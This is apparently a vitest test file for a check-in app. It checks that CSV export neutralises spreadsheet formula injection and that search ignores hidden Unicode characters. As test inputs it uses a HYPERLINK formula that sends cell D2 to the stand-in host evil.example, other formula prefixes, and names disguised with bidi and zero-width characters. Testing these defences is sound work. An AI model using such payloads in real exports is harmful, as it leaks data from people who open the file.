// Check-in's export and search as a door uses them: no formula runs from the exported file, and names with hidden
// characters are found by the letters people see.
import { describe, expect, it } from 'vitest'
import type { Participant } from '../../../shared/api'
import { csvCell, indexParticipants, search, toCsv } from './checkin-search'

const person = (id: string, name: string, extra: Partial<Participant> = {}) =>
  ({
    id,
    name,
    type: 'player',
    email: null,
    custom_user_identifier: null,
    checked_in: false,
    ...extra,
  }) as Participant

describe('CSV export', () => {
  it('neutralises every cell a spreadsheet would run as a formula, and keeps it readable', () => {
    const csv = toCsv([
      person('p1', '=HYPERLINK("https://evil.example/?"&D2,"Click")', { email: 'ana@example.org' }),
      person('p2', '+1+1', { custom_user_identifier: '-2+3' }),
      person('p3', '@SUM(A1)', { email: '\tcmd' }),
      person('p4', '\r=1'),
      person('p5', 'Ana Lima'),
    ])
    const cells = csv
      .trim()
      .split('\r\n')
      .slice(1)
      .flatMap((line) => line.match(/"(?:[^"]|"")*"/g) ?? [])
      .map((cell) => cell.slice(1, -1).replaceAll('""', '"'))
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&D2,""Click"")"`)
    expect(csv).toContain(`"'+1+1"`)
    expect(csv).toContain(`"'-2+3"`)
    expect(csv).toContain(`"'@SUM(A1)"`)
    expect(csv).toContain('"Ana Lima"')
    expect(csv).toContain('"ana@example.org"')
  })

  it('leaves ordinary text, numbers and empty values as they are', () => {
    expect(csvCell('Jo "the Rock"')).toBe('"Jo ""the Rock"""')
    expect(csvCell(12)).toBe('"12"')
    expect(csvCell(null)).toBe('""')
    expect(csvCell('a-b = c')).toBe('"a-b = c"')
  })
})

describe('search ignores hidden characters', () => {
  it('finds a name holding bidi controls or zero-width characters by the letters shown, and by a pasted lookalike', () => {
    const index = indexParticipants([
      person('p1', 'Ka\u200Bi\u200Dro Frost'),
      person('p2', '\u202Etsorf oriaK'),
      person('p3', 'Kairo Frost'),
    ])
    expect(search(index, 'kairo', 'all').shown.map((p) => p.id)).toEqual(['p1', 'p3'])
    expect(search(index, 'tsorf', 'all').shown.map((p) => p.id)).toEqual(['p2'])
    expect(search(index, 'Kai\u2060ro', 'all').shown.map((p) => p.id)).toEqual(['p1', 'p3'])
  })
})
